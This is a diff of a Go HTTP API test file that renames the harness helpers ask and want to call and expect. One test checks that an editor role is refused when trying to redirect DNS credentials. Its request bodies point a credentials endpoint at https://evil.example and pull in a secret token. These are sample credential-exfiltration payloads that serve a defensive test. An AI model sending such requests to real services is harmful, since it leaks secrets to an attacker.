@@ -31,8 +31,8 @@ func (h *house) text() string {
 // does asks, and wants a status and a code.
 func (h *house) does(method, path, body string, status int, code string, fields ...string) (*http.Response, map[string]any) {
 	h.t.Helper()
-	rs, out := h.ask(method, path, body, fields...)
-	h.want(method+" "+path+" "+body, rs, out, status, code)
+	rs, out := h.call(method, path, body, fields...)
+	h.expect(method+" "+path+" "+body, rs, out, status, code)
 	return rs, out
 }
 
@@ -241,7 +241,7 @@ func TestEditorsCannotHaveCredentialsSentToThem(t *testing.T) {
 		{"POST", "/config/edits", `{"edits":[{"op":"rename","path":"acme.main","to":"evil"},{"op":"set","path":"acme.evil.dns.credentials.endpoint","value":"https://evil.example"}]}`},
 		{"PATCH", "/acme/main", `{"dns":{"provider":"httpreq","credentials":{"api_token":null,"endpoint":"https://evil.example","password":"${HEADGATE_TEST_TOKEN}"}}}`},
 	} {
-		rs, out := h.ask(c.method, c.path, c.body, "as: editor", always)
+		rs, out := h.call(c.method, c.path, c.body, "as: editor", always)
 		if rs.StatusCode != 403 {
 			t.Errorf("%s %s %s: %d %v", c.method, c.path, c.body, rs.StatusCode, out)
 		}
@@ -389,7 +389,7 @@ func TestAHandEditIsNotLost(t *testing.T) {
 	if err := os.WriteFile(h.file, []byte(strings.Replace(mainConfig, "the shop", "by hand", 1)), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	_, out := h.ask("POST", "/policies", `{"name":"other","compression":{}}`, "as: editor", "If-Match: "+whole)
+	_, out := h.call("POST", "/policies", `{"name":"other","compression":{}}`, "as: editor", "If-Match: "+whole)
 	if out["code"] != nil && out["code"] != "stale" {
 		t.Errorf("got %v", out)
 	}
